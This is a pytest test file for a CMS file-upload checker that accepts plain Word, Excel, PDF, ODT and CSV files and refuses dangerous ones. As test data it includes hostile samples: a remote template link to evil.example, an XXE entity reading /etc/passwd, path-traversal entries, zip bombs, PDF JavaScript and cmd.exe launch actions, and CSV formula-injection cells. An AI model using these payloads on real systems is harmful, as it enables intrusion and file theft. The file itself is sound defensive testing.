"""What may come in and what may not, file by file."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from cms.files.apart.__main__ import answer, taken
from tests.cms.files import samples

WORD = samples.docx("Arrival plan", "Who meets the child")
BOOK = samples.xlsx({"Costs": [["Item", "Pounds"], ["Adviser", 40000]], "Hidden": [["A name"]]})
PDF = samples.pdf("Arrival plan", "Second page")
RELS = "word/_rels/document.xml.rels"
OUTSIDE = (
    '<Relationship Id="r9" Target="http://evil.example/t.dotm" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>'
)


def words(kind, data):
    """Why it is refused; empty if it is taken."""
    return answer("check", kind, data).get("refused", "")


def odt(text="A plan"):
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("META-INF/manifest.xml", "<manifest/>")
        package.writestr(
            "content.xml", f"<d xmlns:text='t'><text:h>Title</text:h><text:p>{text}</text:p></d>"
        )
    return out.getvalue()


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("docx", WORD),
        ("xlsx", BOOK),
        ("pdf", PDF),
        ("odt", odt()),
        ("csv", "name,before\nNEET,-8.2\n+3,£5\n".encode()),
        ("csv", "Größe,5\n".encode("cp1252")),
    ],
)
def test_plain_papers_are_taken(kind, data):
    assert words(kind, data) == ""


def test_text_comes_page_by_page():
    assert answer("text", "pdf", PDF) == {"pages": ["Arrival plan", "Second page"], "whole": True}
    assert answer("text", "docx", WORD)["pages"][0] == "Arrival plan\nWho meets the child"
    assert answer("text", "xlsx", BOOK)["pages"] == [
        "Costs\nItem Pounds\nAdviser 40000",
        "Hidden\nA name",
    ]
    assert answer("text", "odt", odt())["pages"] == ["Title\nA plan"]
    assert answer("text", "csv", b"a,b\n1,2\n")["pages"] == ["a b\n1 2"]


def test_pages_of_a_word_file_end_where_they_break_and_comments_are_read_too():
    from docx import Document
    from docx.enum.text import WD_BREAK

    document = Document()
    document.add_paragraph("One").add_run().add_break(WD_BREAK.PAGE)
    document.add_paragraph("Two")
    document.sections[0].footer.paragraphs[0].text = "Written by the team"
    out = BytesIO()
    document.save(out)

    pages = answer("text", "docx", out.getvalue())["pages"]

    assert pages == ["One", "Two", "Written by the team"]


def test_text_is_cut_where_it_is_more_than_anybody_reads():
    many = answer("text", "csv", ("word,word\n" * 20_000).encode())

    assert (len(many["pages"]), len(many["pages"][0]), many["whole"]) == (1, 50_000, False)


def test_characters_that_no_database_keeps_are_left_out():
    assert taken(iter(["A\0 plan\ufffe \ud800"])) == {"pages": ["A  plan"], "whole": True}


@pytest.mark.parametrize(
    ("kind", "data", "because"),
    [
        ("docx", BOOK, "not a .docx"),
        ("xlsx", WORD, "not a .xlsx"),
        ("docx", PDF, "cannot be opened"),
        ("pdf", WORD, "not a PDF"),
        ("pdf", b"<script>alert(1)</script>", "not a PDF"),
        ("csv", WORD, "not a .csv"),
        ("csv", b"<html><script>alert(1)</script>", "not a .csv"),
        ("csv", PDF, "not a .csv"),
        ("docx", b"", "cannot be opened"),
        ("pdf", b"", "not a PDF"),
    ],
)
def test_a_wrong_type_under_a_right_name_is_refused(kind, data, because):
    assert because in words(kind, data)


def test_macros_are_refused_wherever_they_are_declared():
    types = samples.part(WORD, "[Content_Types].xml").decode()
    enabled = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )

    assert "macros" in words("docx", samples.with_parts(WORD, {"word/vbaProject.bin": b"x"}))
    assert "macros" in words("docx", samples.with_parts(WORD, {"[Content_Types].xml": enabled.encode()}))
    assert "macros" in words("xlsx", samples.with_parts(BOOK, {"xl/macrosheets/sheet1.xml": b"<a/>"}))
    assert "macros" in words("odt", samples.with_parts(odt(), {"Basic/Standard/Module1.xml": b"<a/>"}))


def test_files_inside_files_are_refused():
    inner = samples.with_parts(WORD, {"word/embeddings/Microsoft_Excel_Sheet.xlsx": BOOK})
    renamed = samples.with_parts(WORD, {"word/media/image1.png": BOOK})

    assert "another file inside" in words("docx", inner)
    assert "another file inside" in words("docx", renamed)


def test_paths_out_of_the_archive_are_refused():
    for name in ("../../etc/passwd", "/etc/passwd", "..\\..\\autoexec.bat", "c:/windows/x"):
        assert "lead out of it" in words("docx", samples.with_parts(WORD, {name: b"x"}))


def test_archives_that_unpack_to_far_more_are_refused_without_unpacking():
    bomb = samples.with_parts(WORD, {"word/media/image1.png": b"\0" * (50 * 1024 * 1024)})
    many = samples.with_parts(WORD, {f"word/media/{number}.png": b"" for number in range(3100)})

    assert "far more than it looks" in words("docx", bomb)
    assert "far more than it looks" in words("docx", many)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "latin-1"])
def test_entities_are_refused_in_any_encoding(encoding):
    body = (
        f'<?xml version="1.0" encoding="{encoding}"?><!-- {"x" * 9000} -->'
        '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
    )
    spoilt = samples.with_parts(WORD, {"word/document.xml": body.encode(encoding)})

    assert "entities" in words("docx", spoilt)
    assert "entities" in answer("text", "docx", spoilt)["refused"]


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "externalLinkPath"])
def test_what_is_fetched_from_elsewhere_is_refused(kind):
    rels = samples.part(WORD, RELS).decode().replace("</Relationships>", OUTSIDE.format(kind))

    assert "fetches something" in words("docx", samples.with_parts(WORD, {RELS: rels.encode()}))


def test_links_are_taken_unless_they_run_a_script():
    rels = samples.part(WORD, RELS).decode().replace("</Relationships>", OUTSIDE.format("hyperlink"))
    runs = rels.replace("http://evil.example/t.dotm", "java&#10;script:alert(1)")

    assert words("docx", samples.with_parts(WORD, {RELS: rels.encode()})) == ""
    assert "runs a script" in words("docx", samples.with_parts(WORD, {RELS: runs.encode()}))


def test_something_before_or_behind_the_archive_is_refused():
    assert words("docx", b"%PDF-1.7" + WORD) != ""
    assert "before or behind" in words("docx", WORD + b"<script>")
    assert "behind it" in words("pdf", PDF + b"<script>alert(1)</script>")
    assert words("pdf", PDF + WORD) != ""
    assert words("pdf", b"GIF89a" + PDF) != ""


@pytest.mark.parametrize(
    ("spoilt", "because"),
    [
        ({"catalog": "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"}, "script"),
        ({"catalog": "/OpenAction << /S /URI /URI (http://x.example) /Next << /S /Launch >> >>"}, "script"),
        ({"catalog": "/AA << /WC << /S /JavaScript >> >>"}, "script"),
        ({"catalog": "/Names << /JavaScript << /Names [] >> >>"}, "script"),
        ({"catalog": "/Names << /EmbeddedFiles << /Names [] >> >>"}, "other files"),
        ({"catalog": "/AcroForm << /XFA 3 0 R >>"}, "script"),
        ({"page": "/AA << /O << /S /JavaScript >> >>"}, "script"),
        ({"page": "/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]"}, "script"),
        ({"page": "/Annots [<< /Subtype /Link /A << /S /URI /URI (javascript:1) >> >>]"}, "script"),
        ({"page": "/Annots [<< /Subtype /FileAttachment >>]"}, "other files"),
    ],
)
def test_a_pdf_that_runs_or_carries_something_is_refused(spoilt, because):
    assert because in words("pdf", samples.pdf("One", **spoilt))


def test_a_pdf_with_ordinary_links_is_taken():
    link = "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://x.example) >> >>]"

    assert words("pdf", samples.pdf("One", page=link)) == ""


def test_a_pdf_with_a_password_is_refused():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(BytesIO(PDF)))
    writer.encrypt("", "owner")
    out = BytesIO()
    writer.write(out)

    assert "password" in words("pdf", out.getvalue())


@pytest.mark.parametrize("cut", [10, 100, 400, 600])
def test_damaged_files_are_refused_in_words(cut):
    for kind, data in (("docx", WORD), ("xlsx", BOOK), ("pdf", PDF)):
        assert words(kind, data[:-cut]) != ""
        assert words(kind, data[:cut] + b"\xff" * 40 + data[cut + 40 :]) is not None


@pytest.mark.parametrize("cell", ['=cmd|"/C calc"!A0', "@SUM(1)", "+cmd|x", "-A1", " =1+1"])
def test_cells_that_a_spreadsheet_would_run_are_refused(cell):
    assert "formula" in words("csv", f'a,b\n1,"{cell.replace(chr(34), chr(34) * 2)}"\n'.encode())
